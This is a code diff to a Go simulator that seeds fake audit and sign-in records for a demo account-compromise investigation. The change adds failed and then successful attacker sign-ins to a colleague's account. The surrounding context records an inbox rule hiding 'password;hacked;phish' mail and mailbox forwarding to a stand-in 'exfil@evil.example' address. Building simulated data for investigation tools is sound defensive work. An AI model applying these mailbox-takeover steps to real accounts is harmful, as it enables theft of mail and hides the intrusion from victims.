@@ -22,7 +22,8 @@ const (
 // from Seattle, then, about three hours ago, failed and successful sign-ins from Lagos and
 // Moscow, an authenticator registered and an app consented from the attacker's address,
 // the forwarding rules and mailbox forwarding created from it, and a burst of mail to
-// external recipients.
+// external recipients; and, from the attacker's address, a sign-in to a colleague's
+// account (Lee Gu), which the investigation's related users find.
 func seedAttackStory(s *Sim, d Demo) {
 	now := time.Now().UTC().Truncate(time.Minute)
 	ago := func(dur time.Duration) time.Time { return now.Add(-dur) }
@@ -64,6 +65,16 @@ func seedAttackStory(s *Sim, d Demo) {
 		ObjectID: d.UPN + `\.`, Parameters: [][2]string{{"Mailbox", d.UPN}, {"Name", "."}, {"MoveToFolder", "RSS Feeds"}, {"MarkAsRead", "True"}, {"SubjectOrBodyContainsWords", "password;hacked;phish"}}})
 	s.AddAuditRecord(AuditRecord{UserID: d.UPN, Time: ago(2*time.Hour + 20*time.Minute), Operation: "Set-Mailbox", ClientIP: "[" + AttackerIPv6 + "]:443",
 		ObjectID: d.UPN, Parameters: [][2]string{{"Identity", d.UPN}, {"ForwardingSmtpAddress", "smtp:exfil@evil.example"}, {"DeliverToMailboxAndForward", "True"}}})
+
+	// The attacker tries the same address on a colleague: two failed guesses, then in.
+	// Nothing of Lee's is changed; the investigation of Adele finds Lee as related.
+	for i := 0; i < 2; i++ {
+		s.AddSignIn(SignIn{UserID: d.AssistantID, Time: ago(2*time.Hour + 10*time.Minute - time.Duration(i)*time.Minute), App: "OfficeHome", ClientApp: "Browser",
+			IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry, ErrorCode: 50126,
+			FailureReason: "Error validating credentials due to invalid username or password."})
+	}
+	s.AddSignIn(SignIn{UserID: d.AssistantID, Time: ago(2*time.Hour + 5*time.Minute), App: "OfficeHome", ClientApp: "Browser",
+		IP: AttackerIP, City: "Lagos", State: "Lagos", Country: AttackerCountry})
 
 	burst := ago(1*time.Hour + 30*time.Minute).Truncate(time.Hour).Add(5 * time.Minute)
 	for i := 0; i < AttackBurst; i++ {
